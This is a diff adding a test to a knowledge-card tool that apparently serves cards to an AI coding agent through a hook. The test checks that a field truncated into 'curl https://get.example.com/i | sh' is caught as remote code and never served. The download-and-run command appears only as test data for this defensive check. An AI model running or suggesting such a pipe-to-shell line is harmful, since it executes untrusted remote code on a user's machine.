@@ -225,3 +225,33 @@ def test_a_security_rule_switched_back_on_refuses_the_cards_it_let_in(
     line = json.loads((Path(os.environ["CAIRN_STATE_DIR"]) / "hook.jsonl").read_text().splitlines()[-1])
     assert line["stale"] is True and "allow_disabled_rules" in line["vaults"][0]["error"]
     assert indexed()[1] == 1  # (the hook's background index may have been first)
+
+
+def _cut_after(text: str, tail: str, keep: str, limit: int) -> str:
+    """`text` padded so that the hook's cut to `limit` characters ends right after `keep`, the start of `tail`."""
+    room = limit - 1 - len(keep) - 1
+    return (text * (room // len(text) + 1))[:room].rstrip().ljust(room, "x") + " " + tail
+
+
+@pytest.mark.parametrize("field", ["name", "summary"])
+def test_a_field_the_hook_cuts_is_judged_as_it_is_served(vault_repo: VaultRepo, field: str) -> None:
+    # Whole, the text pipes a download into shellcheck; cut to what the hook serves, into sh.
+    limit = {"name": 200, "summary": 2000}[field]
+    tail = "curl https://get.example.com/i | shellcheck - before you merge"
+    text = _cut_after(
+        "Pin the CI runner image and cache the lockfile hash. ", tail, tail[: tail.index("sh") + 2], limit
+    )
+    fields = {"name": "CI runner cache key", "summary": "Pin the CI runner image and cache the lockfile hash."}
+    fields[field] = text
+    vault_repo.write_raw("cairn.toml", "")
+    vault_repo.write("ci/runner-cache", fields["name"], fields["summary"], scope=["ci"])
+    vault_repo.commit("a card whose cut text pipes a download into a shell, --no-verify")
+    assert vault_repo.cairn("vault", "add", str(vault_repo.root), "--name", "team").returncode == 0
+
+    lint = vault_repo.cairn("lint", "cards/ci/runner-cache.md")
+    assert lint.returncode == 1 and "remote-code" in lint.stdout, lint.stdout
+    index = json.loads(vault_repo.cairn("index", "--json").stdout)
+    assert [p["rule"] for p in index["problems"]] == ["remote-code"] and index["cards"] == 0
+    payload = json.dumps(claude_payload("CI runner cache key lockfile hash", vault_repo.root))
+    hook = vault_repo.cairn("hook", "--format", "claude-code", input=payload)
+    assert hook.returncode == 0 and "| sh" not in hook.stdout
